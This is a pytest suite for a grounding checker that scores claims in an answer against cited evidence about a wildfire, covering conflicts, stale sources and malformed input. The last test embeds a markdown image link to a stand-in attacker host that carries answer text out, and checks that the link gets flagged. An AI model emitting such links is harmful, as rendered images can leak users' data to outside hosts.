"""What a check comes to, from claims, evidence and how that stands."""

from collections.abc import Mapping
from dataclasses import replace
from datetime import datetime

import pytest

from grounding.checking.pipeline import Readers, check
from grounding.checking.records import (
    Basis,
    Outcome,
    Shown,
    Standing,
    StandingStatus,
    Verdict,
    When,
)
from grounding.query.records import EvidenceState
from tests.fakes import START, HashEmbedder
from tests.grounding.serving import DAY

FIRE = "The Oak Fire has burned 500 acres and is 20 percent contained."
CLAIM = "The Oak Fire has burned 500 acres"
READERS = Readers(HashEmbedder())


def item(number: int, text: str, *, at: datetime | None = None) -> Shown:
    return Shown(number, f"doc{number}@1#0", text, source="fires", published_at=at)


def checked(answer: str, *shown: Shown, standings: Mapping[int, Standing] | None = None) -> Verdict:
    return check(answer, Basis(shown, When(START), START, standings or {}), READERS)


def outcomes(verdict: Verdict) -> list[Outcome | None]:
    return [each.outcome for each in verdict.claims]


def standing(status: StandingStatus, newer: Shown | None = None, doubt: str = "") -> Standing:
    return Standing(1, status, START, f"[1] is {status.value}", START, newer, doubt)


class TestOutcome:
    @pytest.mark.parametrize(
        ("answer", "outcome"),
        [
            (f"{CLAIM} [1].", Outcome.SUPPORTED),
            ("The Oak Fire has burned 900 acres [1].", Outcome.CONTRADICTED),
            ("The Oak Fire has burned 500 hectares [1].", Outcome.CONTRADICTED),
            ("Wombats dig burrows in Tasmania [1].", Outcome.INSUFFICIENT),
        ],
    )
    def test_claim_is_held_against_what_it_cites(self, answer: str, outcome: Outcome) -> None:
        assert outcomes(checked(answer, item(1, FIRE))) == [outcome]

    def test_answer_is_as_its_worst_claim(self) -> None:
        verdict = checked(f"{CLAIM} [1]. The Oak Fire is 90 percent contained [1].", item(1, FIRE))

        assert outcomes(verdict) == [Outcome.SUPPORTED, Outcome.CONTRADICTED]
        assert verdict.outcome is Outcome.CONTRADICTED

    def test_answer_that_is_borne_out_in_part_is_partly_supported(self) -> None:
        verdict = checked(f"{CLAIM} [1]. Wombats dig burrows in Tasmania.", item(1, FIRE))

        assert verdict.outcome is Outcome.PARTLY

    def test_abstention_states_nothing(self) -> None:
        verdict = checked("I don't know. The evidence does not say.", item(1, FIRE))

        assert set(outcomes(verdict)) == {None}
        assert verdict.reasons == ("the answer states nothing",)

    def test_score_is_the_mean_of_the_claims(self) -> None:
        verdict = checked(f"{CLAIM} [1]. Wombats dig burrows in Tasmania.", item(1, FIRE))

        scores = [each.score for each in verdict.claims if each.score is not None]
        assert verdict.score == pytest.approx(sum(scores) / 2, abs=1e-4)


class TestConflict:
    OTHER = "The Oak Fire has burned 700 acres and is 20 percent contained."

    def test_items_that_contradict_each_other_are_named_with_both_times(self) -> None:
        verdict = checked(f"{CLAIM} [1].", item(1, FIRE, at=START), item(2, self.OTHER, at=START))

        assert outcomes(verdict) == [Outcome.CONFLICT]
        (conflict,) = verdict.claims[0].conflicts
        assert (conflict.numbers, conflict.says, conflict.agreeing) == (
            (1, 2),
            ("500 acres", "700 acres"),
            1,
        )
        assert conflict.at == (START, START)

    def test_claim_that_goes_with_the_later_item_stands(self) -> None:
        verdict = checked(
            f"{CLAIM} [1].", item(1, FIRE, at=START), item(2, self.OTHER, at=START - DAY)
        )

        assert outcomes(verdict) == [Outcome.SUPPORTED]
        assert verdict.claims[0].conflicts[0].is_settled

    def test_claim_that_goes_with_the_earlier_item_does_not(self) -> None:
        verdict = checked(
            f"{CLAIM} [1].", item(1, FIRE, at=START - DAY), item(2, self.OTHER, at=START)
        )

        assert outcomes(verdict) == [Outcome.CONFLICT]

    def test_another_subject_does_not_contradict(self) -> None:
        elm = self.OTHER.replace("Oak", "Elm")

        assert outcomes(checked(f"{CLAIM} [1].", item(1, FIRE), item(2, elm))) == [
            Outcome.SUPPORTED
        ]

    def test_subject_whose_name_only_has_the_same_words_does_not_contradict(self) -> None:
        claim = "The McCovey Fire near McCovey Ranch has burned 500 acres [1]."
        own = item(1, "The McCovey Fire near McCovey Ranch has burned 500 acres.")
        other = item(2, "The Ranch Fire on Highway 169 near McCovey Ranch has burned 700 acres.")

        assert outcomes(checked(claim, own, other)) == [Outcome.SUPPORTED]

    def test_what_was_superseded_does_not_contradict(self) -> None:
        past = replace(item(2, self.OTHER), state=EvidenceState.SUPERSEDED)

        assert outcomes(checked(f"{CLAIM} [1].", item(1, FIRE), past)) == [Outcome.SUPPORTED]


class TestTime:
    @pytest.mark.parametrize(
        "status",
        [
            StandingStatus.EXPIRED,
            StandingStatus.REMOVED,
            StandingStatus.OVERDUE,
            StandingStatus.NOT_YET,
        ],
    )
    def test_claim_whose_evidence_lapsed_is_stale(self, status: StandingStatus) -> None:
        verdict = checked(f"{CLAIM} [1].", item(1, FIRE), standings={1: standing(status)})

        assert outcomes(verdict) == [Outcome.STALE]
        assert verdict.claims[0].reasons == (f"[1] is {status.value}",)

    def test_newer_version_that_says_the_same_keeps_a_claim_true(self) -> None:
        newer = item(1, "The Oak Fire has burned 500 acres and is 80 percent contained.")
        lapsed = standing(StandingStatus.SUPERSEDED, newer)

        verdict = checked(f"{CLAIM} [1].", item(1, FIRE), standings={1: lapsed})

        assert (outcomes(verdict), verdict.claims[0].still_true) == ([Outcome.SUPPORTED], True)

    def test_newer_version_that_says_otherwise_makes_it_stale(self) -> None:
        newer = item(1, "The Oak Fire has burned 900 acres and is 20 percent contained.")
        lapsed = standing(StandingStatus.SUPERSEDED, newer)

        verdict = checked(f"{CLAIM} [1].", item(1, FIRE), standings={1: lapsed})

        assert (outcomes(verdict), verdict.claims[0].still_true) == ([Outcome.STALE], False)

    def test_newer_version_of_an_overdue_source_vouches_for_nothing(self) -> None:
        lapsed = standing(StandingStatus.SUPERSEDED, item(1, FIRE), doubt="not read for 9 days")

        verdict = checked(f"{CLAIM} [1].", item(1, FIRE), standings={1: lapsed})

        assert outcomes(verdict) == [Outcome.STALE]
        assert verdict.claims[0].reasons == ("not read for 9 days",)
        assert verdict.claims[0].still_true is None

    def test_claim_that_names_the_time_of_its_evidence_stays_true_for_it(self) -> None:
        lapsed = standing(StandingStatus.EXPIRED)
        shown = item(1, FIRE, at=START)

        verdict = checked(
            "As of 1 March 2026 the Oak Fire has burned 500 acres [1].",
            shown,
            standings={1: lapsed},
        )

        assert outcomes(verdict) == [Outcome.SUPPORTED]
        assert verdict.claims[0].standings == (lapsed,)


class TestBadInput:
    @pytest.mark.parametrize(
        "answer",
        [
            "",
            "\n\n",
            "[1]",
            "؟",
            "العربية: النار أحرقت 500 فدان [1].",
            "火灾烧毁了五百英亩。[1]",
            "e\u0301" * 999,
        ],
    )
    def test_any_text_is_checked(self, answer: str) -> None:
        verdict = checked(answer, item(1, FIRE))

        for each in verdict.claims:
            assert 0 <= each.claim.start < each.claim.end <= len(answer)

    def test_answer_of_100_000_words_is_checked(self) -> None:
        answer = " ".join(f"Word {n} is here." for n in range(25_000))

        verdict = checked(f"{CLAIM} [1]. {answer}", item(1, FIRE))

        assert len(verdict.claims) == 25_001
        assert verdict.claims[0].outcome is Outcome.SUPPORTED
        assert verdict.claims[-1].outcome is Outcome.INSUFFICIENT
        assert verdict.claims[-1].reasons == ("not checked: it is beyond the first 1,000 claims",)
        assert verdict.outcome is Outcome.PARTLY


def test_links_outward_are_flagged() -> None:
    verdict = checked(
        f"{CLAIM} [1]. ![x](https://evil.example/?q=Oak+Fire+has+burned+500)", item(1, FIRE)
    )

    assert verdict.carries_outward
